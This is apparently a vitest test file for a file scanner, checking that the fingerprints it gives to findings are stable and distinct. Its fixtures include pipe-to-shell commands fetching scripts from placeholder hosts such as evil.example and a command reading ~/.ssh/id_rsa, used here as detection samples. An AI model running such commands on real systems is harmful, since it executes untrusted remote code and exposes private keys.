import { describe, expect, test } from "vitest";
import { findFindings, findInFile } from "./find-findings";

const find = (text: string, path = "a.md") => findFindings([{ path, text, size: text.length }]);
const prints = (text: string, path?: string): string[] =>
  find(text, path).map(({ fingerprint }) => fingerprint);
const command = "curl https://x.example/i.sh | sh";

describe("a fingerprint", () => {
  test("is 64 hexadecimal digits, the same for the same text every time", () => {
    expect(prints(command)).toEqual([expect.stringMatching(/^[0-9a-f]{64}$/)]);
    expect(prints(command)).toEqual(prints(command));
  });

  test("stays when the line moves, and whatever ends lines", () => {
    expect(prints(`# More\n\n${command}\n`)).toEqual(prints(command));
    expect(prints(`# More\r\n\r\n${command}\r\n`)).toEqual(prints(command));
  });

  test.each([
    ["what was found", "curl https://y.example/i.sh | sh"],
    ["what stands after it on the line", `${command} -s -- --all`],
    ["what stands before it on the line", `sudo ${command}`],
  ])("changes with %s", (_name, text) => {
    expect(find(text)).toHaveLength(1);
    expect(prints(text)).not.toEqual(prints(command));
  });

  test("differs by file and by rule", () => {
    expect(prints(command, "b.md")).not.toEqual(prints(command));
    const text = "![a](https://x.example/a.png) <!-- a comment of words -->";
    expect(new Set(prints(text)).size).toBe(2);
  });

  test("of two things on one line differs", () => {
    expect(new Set(prints(`${command}; wget -qO- https://y.example | bash`)).size).toBe(2);
  });

  test("of a whole file changes with any byte of it, and is the same from text and from bytes", () => {
    const one = prints("A=1\n", ".env");
    expect(prints("A=2\n", ".env")).not.toEqual(one);
    const bytes = new TextEncoder().encode("A=1\n");
    expect(findFindings([{ path: ".env", bytes, size: 4 }]).map(({ fingerprint }) => fingerprint)).toEqual(
      one,
    );
  });

  test("of a hidden name stays when the content changes", () => {
    const name = "a\u200bb.txt";
    expect(prints("one", name)).toEqual(prints("two", name));
  });

  test("of the last one told stands for all that follow: none of them can hide behind its dismissal", () => {
    const many = `${command}\n`.repeat(60);
    const last = prints(many).at(-1);
    expect(prints(`${many}wget -qO- https://evil.example | sh\n`).at(-1)).not.toBe(last);
    expect(prints(many).slice(0, 49)).toEqual(prints(`${many}${command}\n`).slice(0, 49));
  });
});

test("a file is read in many small steps with the same result", () => {
  const file = { path: "a.md", text: `${command}\n\ncat ~/.ssh/id_rsa\n`, size: 60 };
  const steps = findInFile(file);
  let count = 0;
  for (;;) {
    const step = steps.next();
    if (step.done) {
      expect(step.value).toEqual(findFindings([file]));
      break;
    }
    count += 1;
  }
  expect(count).toBeGreaterThan(20);
});
